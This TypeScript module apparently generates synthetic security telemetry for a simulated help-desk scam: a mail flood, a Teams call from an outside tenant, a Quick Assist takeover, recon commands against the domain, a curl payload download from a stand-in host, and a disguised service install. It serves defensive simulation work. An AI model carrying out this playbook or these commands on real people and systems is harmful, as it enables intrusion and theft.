import { withRole, type Employee } from '../company';
import {
  browserDownload,
  dnsLookup,
  processStart,
  type EndpointContext,
} from '../host_events/endpoint';
import type { HostEvent } from '../host_events/host_event';
import { mailDelivered } from '../host_events/mail';
import { externalChat } from '../host_events/office';
import {
  CMD,
  CURL,
  EDGE,
  NET,
  NLTEST,
  QUICK_ASSIST,
  SYSTEMINFO,
  WHOAMI,
} from '../host_events/programs';
import { quickAssistSession, serviceInstalled } from '../host_events/windows';
import { HOUR_MS, MINUTE_MS, SECOND_MS } from '../local_time';
import type { Random } from '../random';
import { LONDON } from '../sites';
import type { Campaign, CampaignContext } from './campaign';

const CALL_BEFORE_NOW_MS = 115 * MINUTE_MS;
const MAILS = 900;
const ATTACKER = {
  number: '+12025550142',
  tenantId: 'c7a1f0de-51d2-4f0b-9d1c-8f4f0b7f6a21',
  userId: '0d3c5a77-6a51-4b3f-8c1e-2f7b90a4e6d5',
  upn: 'helpdesk@itsupport4821.onmicrosoft.com',
  displayName: 'Help Desk',
};
const SUBJECTS = [
  'Confirm your subscription',
  'Welcome to our newsletter',
  'Your account was created',
  'Please verify your address',
  'Thanks for signing up',
];

/** 900 sign-up mails in 44 minutes, ending six minutes before the call. */
const flood = (random: Random, victim: Employee, callStartMs: number): HostEvent[] =>
  Array.from({ length: MAILS }, () => {
    const timeMs = callStartMs - random.int(6 * MINUTE_MS, 50 * MINUTE_MS);
    const from = `noreply${random.int(1, 400)}@shop${random.int(1, 250)}.example.net`;
    return mailDelivered(random, { timeMs, from, to: victim, subject: random.pick(SUBJECTS) });
  });

/** What the helper does once the screen is shared: look around, fetch a tool, install it. */
const handsOn = (
  random: Random,
  victim: Employee & { host: string },
  callStartMs: number
): HostEvent[] => {
  const at = (minutes: number): EndpointContext => ({
    random,
    host: victim.host,
    account: victim,
    timeMs: callStartMs + Math.round(minutes * MINUTE_MS),
  });
  const service = { random, host: victim.host, sid: victim.sid, timeMs: at(16).timeMs };
  return [
    dnsLookup(at(2.8), QUICK_ASSIST, 'remoteassistance.support.services.microsoft.com'),
    processStart(at(3), QUICK_ASSIST),
    ...quickAssistSession(random, victim, { startMs: at(4.2).timeMs, endMs: at(31).timeMs }),
    processStart(at(7), CMD),
    processStart(at(7.2), WHOAMI, { parent: CMD, args: '/all' }),
    processStart(at(7.5), NET, { parent: CMD, args: 'group "Domain Admins" /domain' }),
    processStart(at(7.9), NLTEST, { parent: CMD, args: '/dclist:' }),
    processStart(at(8.3), SYSTEMINFO, { parent: CMD }),
    processStart(at(12), CURL, {
      parent: CMD,
      args: '-o C:\\Users\\Public\\update.zip https://files.example.net/update.zip',
    }),
    browserDownload(at(13), EDGE, {
      name: 'spam_filter_update.zip',
      folder: `C:\\Users\\${victim.account}\\Downloads`,
      originUrl: 'https://files.example.net/spam_filter_update.zip',
      size: 4_812_330,
    }),
    serviceInstalled(service, 'Spam Filter Update', 'C:\\Users\\Public\\update\\sfupdate.exe'),
  ];
};

/**
 * Mail flood, then a Teams chat and a short Teams call from another tenant, then a phone call "from the help desk"
 * to the same person's Teams number, then Quick Assist with full control.
 */
export const mailfloodTeamsQuickAssist = ({
  random,
  company,
  nowMs,
}: CampaignContext): Campaign => {
  const victim = withRole(company, 'finance', LONDON).find(({ privileged }) => !privileged);
  if (victim?.host === undefined) throw new Error('The company has nobody in London finance.');
  const callStartMs = nowMs - CALL_BEFORE_NOW_MS;
  const label = 'mailflood_teams_quickassist';
  const call = { direction: 'inbound', employee: victim, outcome: 'answered', label } as const;
  return {
    id: label,
    callStartMs,
    people: [victim],
    calls: [
      {
        ...call,
        startMs: callStartMs - 3 * MINUTE_MS,
        ringSeconds: 9,
        talkSeconds: 48,
        other: {
          kind: 'tenant',
          tenantId: ATTACKER.tenantId,
          userId: ATTACKER.userId,
          name: ATTACKER.displayName,
        },
      },
      {
        ...call,
        startMs: callStartMs,
        ringSeconds: 6,
        talkSeconds: 18 * 60 + 4,
        other: { kind: 'number', number: ATTACKER.number },
      },
    ],
    events: [
      ...flood(random, victim, callStartMs),
      externalChat(random, {
        timeMs: callStartMs - 5 * MINUTE_MS + 12 * SECOND_MS,
        delayMinutes: 74,
        from: ATTACKER,
        to: victim,
      }),
      ...handsOn(random, { ...victim, host: victim.host }, callStartMs),
    ],
    quiet: [{ employee: victim, fromMs: callStartMs - HOUR_MS, toMs: nowMs }],
  };
};
